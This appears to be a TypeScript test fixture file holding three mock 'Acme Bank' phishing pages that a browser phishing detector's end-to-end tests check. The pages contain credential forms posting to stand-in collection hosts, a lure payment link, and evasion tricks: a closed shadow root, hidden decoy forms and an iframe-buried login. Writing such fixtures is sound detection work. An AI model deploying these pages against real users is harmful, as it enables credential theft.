// The phishing page both browsers' end-to-end tests report (served locally: nothing leaves the machine).

/** A phishing page: a credential form posting to another origin, outbound links, a third-party script. */
export const PHISHING_HTML = `<!doctype html><html><head><meta charset="utf-8"><title>Acme Bank – Sign in</title>
<script src="https://cdn.kit-host.com/kit.js"></script></head>
<body style="font: 20px sans-serif; background: #fff">
<h1>Acme Bank secure sign-in</h1>
<form action="https://collect.kit-host.com/gate.php" method="post">
  <input name="username" type="email"><input name="password" type="password"><button>Sign in</button>
</form>
<p><a id="pay" href="https://pay.evil-link.com/checkout">Pay your fine</a>
<a href="https://acme.example/real">Real Acme</a></p>
<p id="contact">Call +44 20 7946 0958 or write to refunds[at]acme-billing[.]com</p>
</body></html>`;

/** A login form posting elsewhere, in a closed root inside an open one; the page keeps no handle on the closed root. */
export const SHADOW_LOGIN = `<!doctype html><html><head><meta charset="utf-8"><title>Shadow login</title></head><body>
<h1>Sign in</h1><app-shell></app-shell>
<script>
  const outer = document.querySelector('app-shell').attachShadow({ mode: 'open' });
  outer.innerHTML = '<header>Acme Bank</header><login-box></login-box>';
  outer.querySelector('login-box').attachShadow({ mode: 'closed' }).innerHTML =
    '<form action="https://collect.shadow-kit.example/post.php" method="post">' +
    '<input name="user" type="email"><input name="secret" type="password"><button>Sign in</button></form>';
  document.title = 'Shadow login ready';
</script></body></html>`;

/**
 * Issue 41: a page six screens tall (set from the window's height) with a red
 * sticky header, 60 hidden decoy forms first, the real login form in an
 * `<iframe srcdoc>` near the bottom, and a blue band at the very bottom.
 */
export const TALL_FRAMED_LOGIN = `<!doctype html><html><head><meta charset="utf-8"><title>Tall login</title>
<style>body { margin: 0; font: 20px sans-serif; background: #fff } header { position: sticky; top: 0; height: 50px; background: rgb(200, 0, 0); color: #fff }
#bottom { height: 40px; background: rgb(0, 0, 200) } iframe { display: block; width: 600px; height: 200px; border: 0 }</style></head>
<body><header>Acme Bank</header>
<div hidden>${'<form action="/decoy" method="post"><input name="q"></form>'.repeat(60)}</div>
<div id="filler">Scroll down to sign in</div>
<iframe srcdoc="${'<form action=&quot;https://collect.tall-kit.example/gate.php&quot; method=&quot;post&quot;><input name=&quot;user&quot; type=&quot;email&quot;><input name=&quot;secret&quot; type=&quot;password&quot;><button>Sign in</button></form>'}"></iframe>
<div id="bottom"></div>
<script>
  document.getElementById('filler').style.height = (6 * innerHeight - 50 - 200 - 40) + 'px';
  document.title = 'Tall login ready';
</script></body></html>`;
